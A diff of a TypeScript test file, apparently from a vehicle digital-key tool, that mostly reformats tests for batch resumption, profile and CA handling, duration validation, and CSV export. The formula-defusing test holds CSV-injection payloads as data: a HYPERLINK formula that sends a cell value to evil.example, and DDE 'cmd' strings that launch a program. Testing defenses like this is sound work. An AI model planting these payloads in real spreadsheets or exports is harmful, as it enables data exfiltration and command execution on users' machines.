@@ -35,7 +35,9 @@ test('a batch the user cancelled is not resumed when the app starts again', asyn
   const afterQuit = simulator.stats.requests
 
   let ended: BatchProgress | undefined
-  await testHandlers(t, dataDir, { emit: (event, payload) => void (event === 'batch:progress' && !(payload as BatchProgress).running && (ended = payload as BatchProgress)) }) // the app starts again
+  await testHandlers(t, dataDir, {
+    emit: (event, payload) => void (event === 'batch:progress' && !(payload as BatchProgress).running && (ended = payload as BatchProgress)),
+  }) // the app starts again
   const resumed = await waitUntil(() => ended, 'the interrupted batch to be resumed and end')
   assert.equal(resumed.batchId, interrupted.batchId, 'the interrupted batch was resumed')
   assert.equal(resumed.done, others.length)
@@ -45,16 +47,35 @@ test('a batch the user cancelled is not resumed when the app starts again', asyn
 
 test('a profile moved to another host keeps neither its password nor its CA without the password again', async (t) => {
   const { depot, simulator } = await setupDepot(t)
-  await depot.saveProfile({ name: 'far', environment: 'https://here.example.com/connectedcar/v3', clientId: 'c', login: 'MZP000001', password: 'old-password', caPem: simulator.material.serverCa.certPem })
-  await assert.rejects(depot.saveProfile({ name: 'far', environment: 'https://elsewhere.example.com/connectedcar/v3', clientId: 'c', login: 'MZP000001' }), (e: Error & { code?: string }) => e.code === 'config.profile' && /password again/.test(e.message))
-  const moved = await depot.saveProfile({ name: 'far', environment: 'https://elsewhere.example.com/connectedcar/v3', clientId: 'c', login: 'MZP000001', password: 'new-password' })
+  await depot.saveProfile({
+    name: 'far',
+    environment: 'https://here.example.com/connectedcar/v3',
+    clientId: 'c',
+    login: 'MZP000001',
+    password: 'old-password',
+    caPem: simulator.material.serverCa.certPem,
+  })
+  await assert.rejects(
+    depot.saveProfile({ name: 'far', environment: 'https://elsewhere.example.com/connectedcar/v3', clientId: 'c', login: 'MZP000001' }),
+    (e: Error & { code?: string }) => e.code === 'config.profile' && /password again/.test(e.message),
+  )
+  const moved = await depot.saveProfile({
+    name: 'far',
+    environment: 'https://elsewhere.example.com/connectedcar/v3',
+    clientId: 'c',
+    login: 'MZP000001',
+    password: 'new-password',
+  })
   assert.equal(moved.caPem, undefined, "the old host's CA is not kept")
 })
 
 test('a CA file that also holds a private key is refused, and only certificate blocks are stored', async (t) => {
   const { depot, simulator } = await setupDepot(t)
   const ca = simulator.material.serverCa
-  await assert.rejects(depot.setCa('sim', `${ca.certPem}\n${ca.keyPem}`), (e: Error & { code?: string }) => e.code === 'config.certificate-format' && /private key/.test(e.message))
+  await assert.rejects(
+    depot.setCa('sim', `${ca.certPem}\n${ca.keyPem}`),
+    (e: Error & { code?: string }) => e.code === 'config.certificate-format' && /private key/.test(e.message),
+  )
   const saved = await depot.setCa('sim', `Bag Attributes: friendly\n${ca.certPem}`)
   assert.equal(saved.caPem?.trim(), ca.certPem.trim())
   const settings = await readFile(join(depot.dataDir, 'settings.json'), 'utf8')
@@ -64,8 +85,14 @@ test('a CA file that also holds a private key is refused, and only certificate b
 test('a duration over 30 days, or a planned start without a time zone, is refused before anything is sent', async (t) => {
   const { depot, simulator } = await setupDepot(t)
   const [record] = await depot.addVehicles({ vehicles: [car(7)], issues: [] })
-  await assert.rejects(depot.requestToken(record!.id, { kind: 'seconds', seconds: 365 * 86_400 }), (e: Error & { code?: string }) => e.code === 'input.duration')
-  await assert.rejects(depot.requestToken(record!.id, { kind: 'plan', start: '2099-01-01T10:00:00', seconds: 3600 }), (e: Error & { code?: string }) => e.code === 'input.duration' && /time zone/.test(e.message))
+  await assert.rejects(
+    depot.requestToken(record!.id, { kind: 'seconds', seconds: 365 * 86_400 }),
+    (e: Error & { code?: string }) => e.code === 'input.duration',
+  )
+  await assert.rejects(
+    depot.requestToken(record!.id, { kind: 'plan', start: '2099-01-01T10:00:00', seconds: 3600 }),
+    (e: Error & { code?: string }) => e.code === 'input.duration' && /time zone/.test(e.message),
+  )
   assert.equal(simulator.stats.requests, 0)
 })
 
@@ -144,12 +171,14 @@ const FORMULA = /^[=+\-@\t\r]/
 
 test('the audit CSV defuses spreadsheet formulas: labels, technicians, profiles and notes starting with =, +, - or @ are written as text', async (t) => {
   const { env, dataDir, depot, simulator } = await setupDepot(t)
-  const labels = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', '+SUM(1,2)', '-2+3*cmd|\' /C calc\'!A0', '@SUM(A1:A9)']
-  const files = await Promise.all(labels.map(async (label, i) => {
-    const path = join(dataDir, '..', `formula-${i}.json`)
-    await writeFile(path, carDataJson(vinFor(60 + i), { label }))
-    return path
-  }))
+  const labels = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', '+SUM(1,2)', "-2+3*cmd|' /C calc'!A0", '@SUM(A1:A9)']
+  const files = await Promise.all(
+    labels.map(async (label, i) => {
+      const path = join(dataDir, '..', `formula-${i}.json`)
+      await writeFile(path, carDataJson(vinFor(60 + i), { label }))
+      return path
+    }),
+  )
   simulator.faults.statuses.push(200, 403) // one key refused: the refusal has its own row, with the label
   const batch = await vkey(['batch', ...files, '--duration', '1h', '--concurrency', '1', '--json'], env)
   assert.equal(batch.code, 4, batch.stderr)
@@ -160,7 +189,11 @@ test('the audit CSV defuses spreadsheet formulas: labels, technicians, profiles 
   assert.deepEqual(header, [...AUDIT_COLUMNS])
   const column = (name: (typeof AUDIT_COLUMNS)[number]) => AUDIT_COLUMNS.indexOf(name)
   assert.equal(rows.length, 4, 'three keys and one refusal')
-  assert.deepEqual(new Set(rows.map((row) => row[column('label')])), new Set(labels.map((label) => `'${label}`)), 'each label is kept whole, after a quote that makes it text')
+  assert.deepEqual(
+    new Set(rows.map((row) => row[column('label')])),
+    new Set(labels.map((label) => `'${label}`)),
+    'each label is kept whole, after a quote that makes it text',
+  )
   assert.ok(rows.some((row) => row[column('outcome')] === 'refused' && labels.includes(row[column('label')]!.slice(1))))
   for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA, `a cell a spreadsheet would run: ${cell}`)
 
@@ -168,7 +201,7 @@ test('the audit CSV defuses spreadsheet formulas: labels, technicians, profiles 
   // export with hostile values there, and in an error message, is defused the same way.
   const store = await depot.handovers()
   const hostile = auditCsv(
-    (await store.list()).map((r) => ({ ...r, technician: '=cmd|\' /C calc\'!A0', profile: '@profile' })),
+    (await store.list()).map((r) => ({ ...r, technician: "=cmd|' /C calc'!A0", profile: '@profile' })),
     store.events().map((e) => ({ ...e, technician: '+technician', error: { ...e.error, message: '-PSA said =1+1' } })),
   )
   const [, ...hostileRows] = parseCsv(hostile)
